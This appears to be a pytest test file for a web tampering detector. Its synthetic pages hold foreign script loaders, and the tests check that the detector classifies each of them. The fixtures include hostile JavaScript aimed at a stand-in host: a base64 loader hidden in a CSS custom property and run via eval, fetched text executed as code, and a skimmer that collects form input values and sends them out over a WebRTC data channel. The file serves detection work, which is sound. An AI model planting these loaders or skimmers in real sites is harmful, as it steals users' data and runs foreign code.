"""Foreign loaders that keep their code out of sight: fetched text run as code, payloads kept in
style, consent-deferred tags, markup written by scripts, WebRTC exfiltration, runner calls."""

from __future__ import annotations

import base64

import pytest
from selectolax.lexbor import LexborHTMLParser

from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
from tamperwatch.detect.inline_loads import ENCODED, HIDDEN, PLAIN, SKIMMER, inline_loads
from tamperwatch.detect.origins import host_of
from tamperwatch.detect.resources import foreign_resources

from .synthetic import news_page, page
from .test_foreign_injection import trusted_part

HOST = "https://relay.quillwort.example"
LOADER = f"var s=document.createElement('script');s.src='{HOST}/a.js';document.head.appendChild(s)"
PAYLOAD = base64.b64encode(LOADER.encode()).decode()


def loads(markup: str) -> list[tuple[str, str]]:
    return inline_loads(LexborHTMLParser(f"<html><head></head><body>{markup}</body></html>"))


def kinds(markup: str) -> set[tuple[str, str]]:
    return {(r.kind, r.domain) for r in foreign_resources(page(news_page(9, body_extra=markup)))}


def test_base64_code_kept_in_a_style_custom_property_that_a_script_decodes_is_obfuscated() -> None:
    markup = (
        f"<style>:root{{--x9:'{PAYLOAD}'}}</style><script>(new Function(atob(getComputedStyle("
        "document.documentElement).getPropertyValue('--x9').trim().slice(1,-1))))();</script>"
    )
    assert (f"{HOST}/a.js", ENCODED) in loads(markup)
    in_attribute = (
        f'<div style="--k:{PAYLOAD}"></div>'
        '<script>eval(atob(getComputedStyle(d).getPropertyValue("--k")))</script>'
    )
    assert (f"{HOST}/a.js", ENCODED) in loads(in_attribute)


def test_base64_pictures_in_style_and_undecoded_properties_are_no_code() -> None:
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(64))).decode()
    markup = (
        f"<style>:root{{--bg:url(data:image/png;base64,{picture});--icon:'{picture}'}}</style>"
        "<script>var c=getComputedStyle(document.body).getPropertyValue('--bg');"
        "x.title=atob('aGVsbG8gd29ybGQh')</script>"
    )
    assert loads(markup) == []
    # a property holding an address nobody decodes: the page's own styling
    assert loads(f"<style>:root{{--k:'{PAYLOAD}'}}</style><script>var a=1</script>") == []


@pytest.mark.parametrize(
    "script",
    [
        f"fetch('{HOST}/x.ico').then(r=>r.text()).then(t=>new Function(t)())",
        f"var u='{HOST}/p';fetch(u).then(r=>r.text()).then(t=>{{localStorage.setItem('k',t);(0,eval)(t)}})",
        f"var x=new XMLHttpRequest();x.open('GET','{HOST}/c');"
        "x.onload=function(){eval(x.responseText)};x.send()",
        f"$.get('{HOST}/c',function(t){{setTimeout(t,10)}})",
        f"fetch('{HOST}/c').then(function(r){{return r.text()}}).then(function(t){{"
        "var s=document.createElement('script');s.text=t;document.head.appendChild(s)})",
    ],
)
def test_text_fetched_from_an_address_and_run_as_code_is_a_hidden_load(script: str) -> None:
    assert any(url.startswith(HOST) and how == HIDDEN for url, how in loads(f"<script>{script}</script>"))
    assert ("hidden-loader", "quillwort.example") in kinds(f"<script>{script}</script>")


@pytest.mark.parametrize(
    "script",
    [
        "fetch('/api/menu.json').then(r=>r.json()).then(d=>render(d))",
        f"fetch('{HOST}/prices').then(r=>r.text()).then(t=>{{var d=JSON.parse(t);box.textContent=d.p}})",
        f"fetch('{HOST}/ping').then(()=>setTimeout(poll,1000))",
    ],
)
def test_fetches_whose_answer_is_read_as_data_load_no_code(script: str) -> None:
    assert all(how != HIDDEN for _, how in loads(f"<script>{script}</script>"))


def test_a_consent_deferred_script_loads_from_its_origin_as_a_plain_tag() -> None:
    tag = f'<script type="text/plain" data-cookiecategory="analytics" data-src="{HOST}/loader.js"></script>'
    copier = (
        "<script>document.querySelectorAll('script[data-src]').forEach(function(e){"
        "var s=document.createElement('script');s.src=e.dataset.src;document.head.appendChild(s)})</script>"
    )
    assert ("script", "quillwort.example") in kinds(tag + copier)
    assert ("script", "quillwort.example") in kinds(
        f'<script type="text/plain" data-cookieconsent-src="{HOST}/tag.js"></script>'
    )


def test_a_consent_managers_deferred_vendor_from_a_trusted_origin_stays_quiet() -> None:
    det = ForeignInjectionDetector()
    tag = f'<script type="text/plain" data-cookiecategory="analytics" data-src="{HOST}/loader.js"></script>'
    part: dict[str, object] = {}
    for day in range(3):
        det.learn_trusted(part, page(news_page(day, body_extra=tag)))
    assert det.detect(part, page(news_page(9, body_extra=tag))) == []
    # running scripts and templates carry no deferred address
    assert ("script", "quillwort.example") not in kinds(f'<script data-src="{HOST}/x.js">var a=1</script>')


@pytest.mark.parametrize(
    "writer",
    [
        "document.body.insertAdjacentHTML('beforeend','{m}')",
        "el.innerHTML='{m}'",
        "document.write('{m}')",
        "new DOMParser().parseFromString('{m}','text/html')",
    ],
)
def test_markup_a_script_writes_is_read_for_its_code_places(writer: str) -> None:
    markup = (
        '<img src="/x.gif" onerror="var s=document.createElement(&quot;script&quot;);'
        f's.src=&quot;{HOST}/s.js&quot;;document.head.appendChild(s)">'
    )
    assert (f"{HOST}/s.js", HIDDEN) in loads(f"<script>{writer.format(m=markup)}</script>")


def test_written_markup_without_code_places_loads_nothing_hidden() -> None:
    script = (
        f'<script>list.innerHTML=\'<li><a href="{HOST}/page"><img src="{HOST}/p.png"></a></li>\'</script>'
    )
    assert all(how != HIDDEN for _, how in loads(script))
    share = "<script>bar.innerHTML='<button onclick=\"window.open(&quot;https://social.example/share&quot;)\">x</button>'</script>"
    assert loads(share) == []


def test_ice_server_addresses_name_their_host() -> None:
    assert host_of("stun:relay.quillwort.example:3478", "https://site.example/") == "relay.quillwort.example"
    assert host_of("turns://relay.quillwort.example", "https://site.example/") == "relay.quillwort.example"


def test_fields_read_and_sent_through_a_peer_connection_are_a_skimmer() -> None:
    script = (
        "<script>var d=[];document.querySelectorAll('input').forEach(function(i){d.push(i.value)});"
        "var p=new RTCPeerConnection({iceServers:[{urls:'stun:relay.quillwort.example:3478'}]});"
        "var c=p.createDataChannel('x');c.onopen=function(){c.send(d.join('|'))}</script>"
    )
    assert ("stun:relay.quillwort.example:3478", SKIMMER) in loads(script)
    assert ("skimmer", "quillwort.example") in kinds(script)


def test_a_video_call_naming_a_stun_server_is_no_skimmer() -> None:
    script = (
        "<script>var p=new RTCPeerConnection({iceServers:[{urls:'stun:stun.callvendor.example:19302'}]})"
        "</script>"
    )
    assert [how for _, how in loads(script)] != [SKIMMER]
    assert all(kind != "skimmer" for kind, _ in kinds(script))


@pytest.mark.parametrize(
    "call",
    [
        f"new Worker('{HOST}/w')",
        f"navigator.serviceWorker.register('{HOST}/sw')",
        f"import('{HOST}/m')",
        f"new SharedWorker('{HOST}/s')",
    ],
)
def test_an_address_handed_to_a_module_import_or_worker_is_loaded(call: str) -> None:
    assert any(url.startswith(HOST) and how == PLAIN for url, how in loads(f"<script>{call}</script>"))


def test_a_module_script_tag_from_another_origin_is_a_script() -> None:
    assert ("script", "quillwort.example") in kinds(f'<script type="module" src="{HOST}/m.js"></script>')


def test_a_hidden_fetch_loader_is_content_evidence_on_a_site_that_trusts_its_vendors() -> None:
    det = ForeignInjectionDetector()
    script = f"<script>fetch('{HOST}/x.ico').then(r=>r.text()).then(t=>(0,eval)(t))</script>"
    [finding] = det.detect(trusted_part(det), page(news_page(9, body_extra=script)))
    assert finding.content and finding.score >= 0.5
